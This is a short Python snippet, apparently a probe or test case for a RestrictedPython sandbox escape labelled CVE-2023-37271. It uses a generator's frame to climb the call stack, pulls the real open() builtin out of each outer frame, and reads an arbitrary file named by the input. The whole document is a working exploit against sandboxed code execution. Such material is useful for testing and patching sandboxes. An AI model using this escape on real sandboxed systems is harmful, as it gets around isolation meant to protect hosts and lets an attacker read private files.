# Tries: the frame of who drives a generator, from inside of it.
# Origin: CVE-2023-37271 (RestrictedPython: stack frames by generators).


def look():
    yield made.gi_frame.f_back


made = look()
frame = next(made)
found = []
while frame:
    found.append(frame.f_builtins["open"](input["file"]).read())
    frame = frame.f_back
found
